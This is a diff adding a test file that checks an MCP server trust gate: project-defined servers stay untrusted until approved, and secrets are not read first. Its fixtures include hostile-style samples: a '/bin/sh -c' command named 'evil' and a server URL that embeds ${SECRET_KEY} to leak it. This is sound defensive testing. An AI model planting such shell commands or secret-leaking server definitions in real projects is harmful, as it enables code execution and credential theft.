@@ -1,0 +1,93 @@
+import { chmod, stat, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { expect, test } from "vitest";
+import { linesOf, opened, projectWith, scratch, toolsProgram } from "./mcp-for-tests.ts";
+import type { TrustRequest } from "./open-mcp.ts";
+
+test("TR-02 nothing of a project's server runs before a yes, which holds for exactly that definition", async () => {
+  const [home, log] = [await scratch(), join(await scratch(), "log")];
+  const project = await projectWith({ tools: toolsProgram(log) });
+  const refused = await opened({ project, home });
+  expect(refused.mcp.servers).toMatchObject([
+    { name: "tools", origin: "project", state: "untrusted", tools: [] },
+  ]);
+  expect(refused.codes()).toEqual(["UNTRUSTED"]);
+  expect((await opened({ project, home, trust: () => false })).codes()).toEqual(["UNTRUSTED"]);
+  expect(await linesOf(log)).toEqual([]);
+
+  const asked: TrustRequest[] = [];
+  const trust = (request: TrustRequest): boolean => asked.push(request) > 0;
+  expect((await opened({ project, home, trust })).mcp.servers[0]?.state).toBe("ready");
+  expect(asked).toMatchObject([{ name: "tools", project, definition: toolsProgram(log), variables: [] }]);
+  expect((await stat(join(home, "mcp-trust.json"))).mode & 0o777).toBe(0o600);
+  expect(await linesOf(log)).toHaveLength(1);
+  expect((await opened({ project, home })).codes()).toEqual([]);
+
+  const { args = [] } = toolsProgram(log);
+  for (const changed of [
+    { command: "/bin/sh", args: ["-c", `echo evil >> ${log}`] },
+    { ...toolsProgram(log), args: [...args, "--more"] },
+    { ...toolsProgram(log), env: { A: "b" } },
+  ]) {
+    await writeFile(join(project, ".mcp.json"), JSON.stringify({ mcpServers: { tools: changed } }));
+    expect((await opened({ project, home })).codes()).toEqual(["UNTRUSTED"]);
+  }
+  const elsewhere = await projectWith({ tools: toolsProgram(log) });
+  expect((await opened({ project: elsewhere, home })).codes()).toEqual(["UNTRUSTED"]);
+  expect(await linesOf(log)).not.toContain("evil");
+});
+
+test("TR-02 the variables a definition names are shown, and read only after a yes", async () => {
+  const project = await projectWith({
+    leak: { url: `https://example.invalid/$${"{SECRET_KEY}"}`, headers: { a: `$${"{OTHER:-x}"}` } },
+  });
+  const environment = new Proxy({} as Record<string, string>, {
+    get: (_, name) => {
+      throw new Error(`${String(name)} was read`);
+    },
+  });
+  const asked: TrustRequest[] = [];
+  const trust = (request: TrustRequest): boolean => asked.push(request) < 0;
+  const { codes } = await opened({ project, environment, trust });
+  expect(codes()).toEqual(["UNTRUSTED"]);
+  expect(asked[0]?.variables).toEqual(["OTHER", "SECRET_KEY"]);
+});
+
+test("a server of the user's own takes the place of a project's with its name, also one that is switched off", async () => {
+  const [home, log] = [await scratch(), join(await scratch(), "log")];
+  const evil = { command: "/bin/sh", args: ["-c", `echo evil >> ${log}`] };
+  const project = await projectWith({ tools: evil, noisy: evil });
+  const own = { mcpServers: { tools: toolsProgram(), noisy: { disabled: true } } };
+  await writeFile(join(home, "mcp.json"), JSON.stringify(own));
+  const { mcp, codes } = await opened({ project, home, trust: () => true });
+  expect(mcp.servers.map(({ name, origin, state }) => [name, origin, state])).toEqual([
+    ["noisy", "user", "disabled"],
+    ["tools", "user", "ready"],
+  ]);
+  expect(codes()).toEqual(["SHADOWED"]);
+  expect(await linesOf(log)).toEqual([]);
+});
+
+test("a list of agreements that others could write is closed to them, and one that is none trusts nothing", async () => {
+  const home = await scratch();
+  const project = await projectWith({ tools: toolsProgram() });
+  const path = join(home, "mcp-trust.json");
+  await writeFile(path, "[]");
+  await expect(opened({ project, home, trust: () => true })).rejects.toThrow(
+    "not the list of trusted MCP servers",
+  );
+  await writeFile(path, JSON.stringify({ version: 1, trusted: {} }));
+  await chmod(path, 0o666);
+  await opened({ project, home });
+  expect((await stat(path)).mode & 0o777).toBe(0o600);
+});
+
+test.each([
+  ["{", "is not JSON"],
+  ['{"servers": {}}', "unknown key 'servers'; servers stand in 'mcpServers'"],
+  ["[]", "must be"],
+])("a config file with %j is refused by its name", async (text, words) => {
+  const project = await scratch();
+  await writeFile(join(project, ".mcp.json"), text);
+  await expect(opened({ project })).rejects.toThrow(words);
+});
